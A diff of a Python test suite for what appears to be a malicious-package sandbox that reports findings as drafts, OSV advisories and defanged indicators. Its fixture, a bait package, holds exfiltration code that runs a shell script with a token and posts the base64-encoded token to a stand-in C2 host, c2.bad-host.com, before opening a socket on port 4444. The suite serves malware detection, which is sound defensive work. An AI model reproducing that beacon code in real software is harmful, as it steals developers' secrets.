@@ -1,5 +1,5 @@
-"""A service that has seen the release before: which findings are new in the next one. On the
-real thing, in two runs that all tests here share.
+"""A service that has seen the release before: which findings are new in the next one, and drafts of
+what may be reported of it. On the real thing, in two runs that all tests here share.
 """
 
 import json
@@ -23,8 +23,9 @@ with tempfile.NamedTemporaryFile(delete=False) as file:
     file.write(b"#!/bin/sh\\n")
 subprocess.run(["/bin/sh", file.name, token, socket.gethostname(), str(os.getpid())])
 try:
-    urllib.request.urlopen("https://c2.example.net/beacon", b64encode(token.encode()), 3)
-    socket.create_connection((socket.gethostbyname("c2.example.net"), 4444), 3).send(os.urandom(9))
+    urllib.request.urlopen("https://c2.bad-host.com/beacon", b64encode(token.encode()), 3)
+    address = socket.gethostbyname("c2.bad-host.com")
+    socket.create_connection((address, 4444), 3).send(os.urandom(9))
 except OSError:
     pass
 """
@@ -101,3 +102,48 @@ def test_the_same_acts_with_other_bait_are_not_new(seen: Seen) -> None:
     assert titles[0] - titles[1]
     acts = {item["rule"] for item in calm["findings"]}
     assert {"secret.sent", "secret.read", "process.spawn", "network.attempt"} <= acts
+
+
+# `snakehook report RUN_ID`, beside the service that has the store open.
+
+
+def draft(seen: Seen, *options: str, version: str = "1.1") -> str:
+    done = seen.snakehook.run("report", seen.reports[version]["run_id"], *options)
+    assert (done.returncode, done.stderr) == (0, ""), done
+    return done.stdout
+
+
+def made_up(seen: Seen) -> set[str]:
+    """What only the decoy internet knows: the address that it gave to the name."""
+    network = seen.reports["1.1"]["network"]
+    found = {row["target"].rpartition(":")[0] for row in network if row["kind"] == "tcp"}
+    assert found
+    return found
+
+
+def test_a_run_by_http_becomes_a_draft(seen: Seen) -> None:
+    text = draft(seen)
+    (file,) = [row for row in seen.reports["1.1"]["downloads"] if row["file"].startswith("grows-1")]
+    assert f"File:    {file['file']}, {file['bytes']} bytes, sha256 {file['sha256']}" in text
+    assert "Version: 1.1" in text and "reads or touches /home/dev/.ssh/id_rsa" in text
+    assert "POST https://c2.bad-host.com/beacon" in text and "with the decoys NPM_TOKEN" in text
+    assert not [address for address in made_up(seen) if address in text]
+
+
+def test_a_run_by_http_becomes_an_osv_draft(seen: Seen) -> None:
+    advisory = json.loads(draft(seen, "--osv"))
+    assert advisory["affected"][0]["versions"] == ["1.1"]
+    assert advisory["affected"][0]["package"]["name"] == "grows"
+    found = advisory["database_specific"]["iocs"]
+    assert found["urls"] == ["https://c2.bad-host.com/beacon"]
+    assert found["domains"] == ["c2.bad-host.com"] and found["ip_addresses"] == []
+    assert not [address for address in made_up(seen) if address in json.dumps(advisory)]
+
+
+def test_a_run_by_http_has_indicators(seen: Seen) -> None:
+    lines = draft(seen, "--indicators")
+    assert "hxxps://c2[.]bad-host[.]com/beacon" in lines and "https://c2" not in lines
+    told = json.loads(draft(seen, "--indicators", "--json"))
+    assert told["run_id"] == seen.reports["1.1"]["run_id"]
+    assert told["indicators"] == seen.reports["1.1"]["indicators"]
+    assert {"name", "url", "sha256"} == {item["kind"] for item in told["indicators"]}
